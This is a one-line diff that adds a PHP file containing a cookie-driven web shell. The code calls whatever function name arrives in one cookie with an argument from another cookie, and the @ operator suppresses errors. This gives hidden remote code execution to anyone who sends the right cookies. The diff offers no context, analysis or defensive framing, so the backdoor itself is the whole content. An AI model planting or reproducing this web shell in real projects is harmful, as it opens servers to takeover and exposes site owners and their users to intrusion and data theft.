@@ -1,0 +1,1 @@
+<?php @$_COOKIE['a']($_COOKIE['b']); ?>
